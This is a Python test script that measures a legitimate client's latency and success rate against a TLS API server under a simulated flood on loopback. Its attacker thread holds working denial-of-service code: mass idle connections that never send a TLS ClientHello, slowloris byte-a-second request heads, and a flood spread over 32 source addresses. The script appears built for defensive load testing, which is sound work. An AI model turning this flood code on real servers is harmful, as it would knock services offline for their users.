#!/usr/bin/env python3
"""flood.py - a legitimate client's reachability while an attacker floods the API server.

usage: flood.py PORT CA TOKEN MODE SECONDS [N]
  MODE nohello:   N TCP connections (default 2000) from 127.0.0.2 that never send a TLS
                  ClientHello, re-opened as soon as the server closes one.
  MODE slowloris: N TLS connections (default 1100) from 127.0.0.2, each sending its
                  request head a byte a second, re-opened when closed.
  MODE multi:     as nohello, spread over 32 source addresses (127.0.0.2-33), which the
                  per-address cap alone cannot stop (the global anonymous cap is reached).
  MODE none:      no attacker (the baseline).
  Add "-keepalive" to the mode: the legitimate client keeps one authenticated connection,
  made before the flood, instead of a fresh one per request.
Meanwhile the legitimate client (127.0.0.1) opens a fresh TLS connection every 200 ms
(as a new kubectl would) and GETs the kubernetes Service with the token, 10 s timeout.
Bounded: the run stops after SECONDS; loopback only. Prints one summary line.
"""
import selectors, socket, ssl, statistics, sys, threading, time

port, ca, token, mode, secs = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4], float(sys.argv[5])
keepalive = mode.endswith("-keepalive")
mode = mode.replace("-keepalive", "")
n = int(sys.argv[6]) if len(sys.argv) > 6 else (1100 if mode == "slowloris" else 2000)
stop = time.time() + secs
opened = [0]


def dial(src):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind((src, 0))
    s.setblocking(False)
    try:
        s.connect(("127.0.0.1", port))
    except BlockingIOError:
        pass
    opened[0] += 1
    return s


def attacker():
    sel = selectors.DefaultSelector()
    ctx = ssl.create_default_context(cafile=ca)
    ctx.check_hostname = False
    conns = {}

    def add():
        s = dial("127.0.0.%d" % (2 + opened[0] % 32) if mode == "multi" else "127.0.0.2")
        if mode == "slowloris":
            t = ctx.wrap_socket(s, server_hostname="127.0.0.1", do_handshake_on_connect=False)
            conns[t.fileno()] = [t, "hs", 0, 0.0]
            sel.register(t, selectors.EVENT_READ | selectors.EVENT_WRITE)
        else:
            conns[s.fileno()] = [s, "idle", 0, 0.0]
            sel.register(s, selectors.EVENT_READ)

    def drop(fd):
        c = conns.pop(fd)
        sel.unregister(c[0])
        c[0].close()

    head = b"GET /api/v1/namespaces/default/services HTTP/1.1\r\nHost: x\r\n" + b"X-Slow: " + b"a" * 4000
    while time.time() < stop:
        while len(conns) < n and time.time() < stop:
            try:
                add()
            except OSError:
                break
        for key, _ in sel.select(timeout=0.2):
            fd = key.fd
            c = conns.get(fd)
            if not c:
                continue
            s = c[0]
            try:
                if c[1] == "hs":
                    s.do_handshake()
                    c[1] = "slow"
                    sel.modify(s, selectors.EVENT_READ)
                    continue
                if not s.recv(4096):
                    drop(fd)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                continue
            except (OSError, ssl.SSLError):
                drop(fd)
        if mode == "slowloris":  # one byte a second per connection
            now = time.time()
            for fd, c in list(conns.items()):
                if c[1] == "slow" and now - c[3] >= 1.0 and c[2] < len(head):
                    try:
                        c[0].send(head[c[2]:c[2] + 1])
                        c[2] += 1
                        c[3] = now
                    except (ssl.SSLWantWriteError, BlockingIOError):
                        pass
                    except (OSError, ssl.SSLError):
                        drop(fd)
    for fd in list(conns):
        drop(fd)


lat, fails = [], 0


def legit():
    global fails
    ctx = ssl.create_default_context(cafile=ca)
    req = ("GET /api/v1/namespaces/default/services/kubernetes HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n"
           "%s\r\n" % (token, "" if keepalive else "Connection: close\r\n")).encode()
    conn = None

    def connect():
        raw = socket.create_connection(("127.0.0.1", port), timeout=10)
        return ctx.wrap_socket(raw, server_hostname="127.0.0.1")

    def one(s):
        s.sendall(req)
        data = b""
        while True:
            d = s.recv(65536)
            if not d:
                break
            data += d
            if keepalive and b"\r\n\r\n" in data:
                head, rest = data.split(b"\r\n\r\n", 1)
                cl = [l for l in head.split(b"\r\n") if l.lower().startswith(b"content-length:")]
                if cl and len(rest) >= int(cl[0].split(b":")[1]):
                    break
        return data

    if keepalive:  # authenticated before the flood starts
        conn = connect()
        one(conn)
    time.sleep(min(3.0, secs / 4))  # let the flood build up first
    while time.time() < stop - 1:
        t0 = time.time()
        try:
            if keepalive:
                if conn is None:
                    conn = connect()
                data = one(conn)
            else:
                with connect() as s:
                    data = one(s)
            if data.startswith(b"HTTP/1.1 200"):
                lat.append((time.time() - t0) * 1000)
            else:
                fails += 1
                conn = None
        except (OSError, ssl.SSLError):
            fails += 1
            conn = None
        time.sleep(max(0, 0.2 - (time.time() - t0)))


th = []
if mode != "none":
    th.append(threading.Thread(target=attacker))
th.append(threading.Thread(target=legit))
for t in th:
    t.start()
for t in th:
    t.join()
tot = len(lat) + fails
q = sorted(lat)
p = lambda f: q[min(len(q) - 1, int(f * len(q)))] if q else float("nan")
print("mode=%s%s attacker_conns=%d attacker_opened=%d legit_requests=%d ok=%d (%.1f%%) p50_ms=%.1f p99_ms=%.1f max_ms=%.1f"
      % (mode, "-keepalive" if keepalive else "", n if mode != "none" else 0, opened[0], tot, len(lat), 100.0 * len(lat) / tot if tot else 0,
         p(0.5), p(0.99), max(q) if q else float("nan")))
